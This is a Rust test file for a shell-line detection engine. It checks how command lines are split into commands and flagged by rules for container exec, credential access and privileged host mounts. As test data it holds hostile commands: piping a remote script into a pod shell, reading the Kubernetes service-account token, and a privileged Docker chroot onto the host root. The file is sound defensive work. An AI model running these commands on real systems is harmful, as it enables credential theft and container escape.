//! Whole shell lines (shell history, sudo's `COMMAND=`, command lines logged without argv):
//! every command is analysed — after `;`, `&&`, `||`, `|`, `&`, newlines, inside `$(…)` and
//! backticks, after `VAR=value` — through the same path as an `sh -c` script, and quoted
//! text stays text.

use cadet_core::parts::analysis::{analyse_line, CommandAnalysis};
use cadet_core::parts::text::{split_commands, MAX_SHELL_COMMANDS, MAX_SHELL_DEPTH};
use cadet_core::{Config, Engine};

fn tools(line: &str) -> Vec<(&'static str, String)> {
    analyse_line(line)
        .into_iter()
        .filter_map(|a: CommandAnalysis<'_>| {
            a.tool
                .map(|t| (t, a.action.as_deref().unwrap_or("").to_string()))
        })
        .collect()
}

fn verdict(line: &str) -> cadet_core::Verdict {
    let mut engine = Engine::new(&Config::default()).unwrap();
    engine.score(line.as_bytes())
}

#[test]
fn every_command_of_a_line_is_split_out() {
    assert_eq!(
        split_commands("true; kubectl exec -it web -- sh"),
        [
            vec!["true"],
            vec!["kubectl", "exec", "-it", "web", "--", "sh"]
        ]
    );
    assert_eq!(
        split_commands("a && b || c | d & e\nf"),
        [
            vec!["a"],
            vec!["b"],
            vec!["c"],
            vec!["d"],
            vec!["e"],
            vec!["f"]
        ]
    );
    // subshells and groups
    assert_eq!(
        split_commands("(cd /tmp && docker ps) ; { crictl ps; }"),
        [
            vec!["cd", "/tmp"],
            vec!["docker", "ps"],
            vec!["{", "crictl", "ps"],
            vec!["}"]
        ]
    );
    // substitutions: the inner commands first, the outer word keeps the text as written
    assert_eq!(
        split_commands("TOKEN=$(kubectl exec web -- cat /t)"),
        [
            vec!["kubectl", "exec", "web", "--", "cat", "/t"],
            vec!["TOKEN=$(kubectl exec web -- cat /t)"]
        ]
    );
    assert_eq!(
        split_commands("echo `docker ps -q`"),
        [vec!["docker", "ps", "-q"], vec!["echo", "`docker ps -q`"]]
    );
    // command substitution runs inside double quotes too, not inside single quotes
    assert_eq!(
        split_commands(r#"echo "id: $(id -u)" '$(docker ps)'"#),
        [
            vec!["id", "-u"],
            vec!["echo", "id: $(id -u)", "$(docker ps)"]
        ]
    );
    // nested, with quotes and parentheses inside
    assert_eq!(
        split_commands(r#"x=$(echo "$(docker ps | grep ")")" ; (true))"#),
        [
            vec!["docker", "ps"],
            vec!["grep", ")"],
            vec!["echo", r#"$(docker ps | grep ")")"#],
            vec!["true"],
            vec![r#"x=$(echo "$(docker ps | grep ")")" ; (true))"#]
        ]
    );
}

#[test]
fn quotes_escapes_and_comments_hide_operators() {
    assert_eq!(
        split_commands(r#"echo "a; b && c""#),
        [vec!["echo", "a; b && c"]]
    );
    assert_eq!(
        split_commands(r"echo a\;b \$(docker ps)"),
        [vec!["echo", "a;b", "$"], vec!["docker", "ps"]],
        "an escaped `$` is a dollar sign; the `(` after it still separates, as in sh"
    );
    assert_eq!(
        split_commands("git commit -m 'fix; kubectl exec' # kubectl exec -it x -- sh\nls"),
        [vec!["git", "commit", "-m", "fix; kubectl exec"], vec!["ls"]]
    );
    assert_eq!(split_commands("echo a#b"), [vec!["echo", "a#b"]]);
    assert_eq!(
        split_commands("docker \\\n  ps"),
        [vec!["docker", "ps"]],
        "line continuation"
    );
}

#[test]
fn unclosed_and_hostile_lines_end_cleanly() {
    assert_eq!(
        split_commands("echo $(docker ps"),
        [vec!["docker", "ps"], vec!["echo", "$(docker ps"]]
    );
    assert_eq!(split_commands("echo 'abc"), [vec!["echo", "abc"]]);
    assert_eq!(split_commands(")))(((;;;&&||"), Vec::<Vec<String>>::new());
    // Deep nesting: levels past MAX_SHELL_DEPTH separate commands instead of nesting,
    // so the innermost command is still found.
    let deep = format!(
        "{}kubectl exec -it web -- sh{}",
        "$(".repeat(MAX_SHELL_DEPTH * 4),
        ")".repeat(MAX_SHELL_DEPTH * 4)
    );
    assert!(split_commands(&deep)
        .iter()
        .any(|c| c.first().map(String::as_str) == Some("kubectl")));
    assert_eq!(tools(&deep), [("kubectl", "exec".to_string())]);
    // Backticks pair up (10 000 empty substitutions make one word).
    let ticks = "`".repeat(10_000);
    assert_eq!(split_commands(&ticks), [vec![ticks.clone()]]);
    // At most MAX_SHELL_COMMANDS commands; the rest of the line is not read.
    let many = "docker ps;".repeat(MAX_SHELL_COMMANDS * 2);
    assert_eq!(split_commands(&many).len(), MAX_SHELL_COMMANDS);
    // A long line is linear work: 200 000 nested openers.
    let long = "$(".repeat(100_000) + &"`".repeat(100_000);
    assert!(split_commands(&long).len() <= MAX_SHELL_COMMANDS);
}

#[test]
fn every_command_is_analysed_like_an_argv() {
    assert_eq!(
        tools("true; kubectl exec -it web -- sh"),
        [("kubectl", "exec".to_string())]
    );
    assert_eq!(
        tools("a && docker run --privileged -v /:/host alpine chroot /host"),
        [("docker", "run".to_string())]
    );
    assert_eq!(
        tools("curl -s https://x.example/p.sh | kubectl exec -i web -- sh"),
        [
            ("curl", "request".to_string()),
            ("kubectl", "exec".to_string())
        ]
    );
    // assignments and reserved words before a command, wrappers after them
    assert_eq!(
        tools("KUBECONFIG=/tmp/k FOO+=1 sudo -E nohup kubectl exec web -- id"),
        [("kubectl", "exec".to_string())]
    );
    assert_eq!(
        tools("if kubectl auth can-i create pods/exec; then kubectl exec web -- sh; fi"),
        [
            ("kubectl", "auth".to_string()),
            ("kubectl", "exec".to_string())
        ]
    );
    assert_eq!(
        tools("for p in a b; do docker exec $p sh; done"),
        [("docker", "exec".to_string())]
    );
    // the same path as sh -c: a script inside a line, and a line inside a script
    let a = analyse_line(r#"true && sh -c "X=\$(kubectl exec web -- cat /t)""#);
    assert_eq!(a.len(), 1);
    assert_eq!(a[0].wrappers, ["sh -c"]);
    assert_eq!(a[0].inner_args, ["cat", "/t"]);
    // text, not commands
    for benign in [
        r#"echo "docker run --privileged""#,
        "grep 'kubectl exec' notes.txt",
        r#"git commit -m "fix; kubectl exec""#,
        "# kubectl exec -it web -- sh",
        "echo '$(kubectl exec web -- sh)'",
    ] {
        assert!(tools(benign).is_empty(), "{benign}");
    }
}

#[test]
fn shell_history_lines_get_their_verdicts() {
    let v = verdict("true; kubectl exec -it web -- sh");
    assert!(v.matched);
    assert!(v.rules.iter().any(|r| r.id == "cadet.proc.exec_shell"));
    let v = verdict(
        "TOKEN=$(kubectl exec web -- cat /var/run/secrets/kubernetes.io/serviceaccount/token)",
    );
    assert!(v
        .rules
        .iter()
        .any(|r| r.id == "cadet.proc.exec_credential_access"));
    let v = verdict("ls && docker run --privileged -v /:/host alpine chroot /host");
    assert!(v
        .rules
        .iter()
        .any(|r| r.id == "cadet.proc.privileged_host_root"));
    for benign in [
        r#"echo "docker run --privileged""#,
        "grep 'kubectl exec' notes.txt",
        r#"git commit -m "fix; kubectl exec""#,
    ] {
        assert!(!verdict(benign).matched, "{benign}");
    }
}

#[test]
fn command_lines_without_argv_are_shell_lines() {
    // ECS with only process.command_line (and Sysmon, Splunk): every command is read.
    let ecs = r#"{"event":{"category":["process"],"type":["start"]},"process":{"executable":"/usr/bin/bash","command_line":"true; kubectl exec -it web -- sh"}}"#;
    assert!(verdict(ecs)
        .rules
        .iter()
        .any(|r| r.id == "cadet.proc.exec_shell"));
    // With process.args, the argv is what ran: a literal `;` argument is not an operator.
    let argv = r#"{"event":{"category":["process"],"type":["start"]},"process":{"executable":"/usr/bin/echo","args":["echo",";","kubectl","exec","-it","web","--","sh"],"command_line":"echo ; kubectl exec -it web -- sh"}}"#;
    assert!(!verdict(argv).matched);
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(2000))]

    /// Any line of shell punctuation and words: the splitter ends, stays within its bounds,
    /// keeps each character at most once per level around it, and the analysis never panics.
    #[test]
    fn any_line_splits_within_bounds(line in r#"([$()`'"\\;|&#{} \n\tab=-]|kubectl|docker|sh -c|lxc){0,120}"#) {
        let commands = split_commands(&line);
        proptest::prop_assert!(commands.len() <= MAX_SHELL_COMMANDS);
        proptest::prop_assert!(commands.iter().all(|c| !c.is_empty()));
        let chars: usize = commands.iter().flatten().map(|w| w.len()).sum();
        proptest::prop_assert!(chars <= (line.len() + 2) * (MAX_SHELL_DEPTH + 2));
        let _ = analyse_line(&line);
        // A line of plain words and operators splits like `split` cut at the operators.
        if !line.contains(['$', '(', ')', '`', '\'', '"', '\\', '#', '{', '}', '\n']) {
            let words = cadet_core::parts::text::split(&line);
            let expected: Vec<Vec<String>> = words
                .split(|w| matches!(w.as_str(), ";" | "|" | "||" | "&" | "&&"))
                .filter(|c| !c.is_empty())
                .map(|c| c.to_vec())
                .collect();
            proptest::prop_assert_eq!(commands, expected);
        }
    }
}
